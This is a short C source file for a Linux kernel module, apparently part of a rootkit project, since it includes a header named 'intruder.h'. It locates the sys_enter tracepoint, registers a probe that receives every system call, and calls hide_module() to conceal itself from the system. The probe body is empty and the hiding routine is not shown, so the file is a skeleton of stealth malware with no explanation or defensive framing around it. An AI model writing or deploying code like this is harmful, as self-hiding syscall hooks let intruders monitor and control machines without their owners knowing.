/* Receives every system call from the tracepoint sys_enter; hides itself. */
#include "intruder.h"
#include <linux/tracepoint.h>

static void entered(void *data, struct pt_regs *registers, long number) {}

static void look(struct tracepoint *tracepoint, void *found) {
    if (!strcmp(tracepoint->name, "sys_enter")) {
        *(struct tracepoint **)found = tracepoint;
    }
}

static int __init begin(void) {
    struct tracepoint *tracepoint = NULL;
    for_each_kernel_tracepoint(look, &tracepoint);
    if (!tracepoint) {
        return -ENOENT;
    }
    hide_module();
    return tracepoint_probe_register(tracepoint, entered, NULL);
}
module_init(begin);
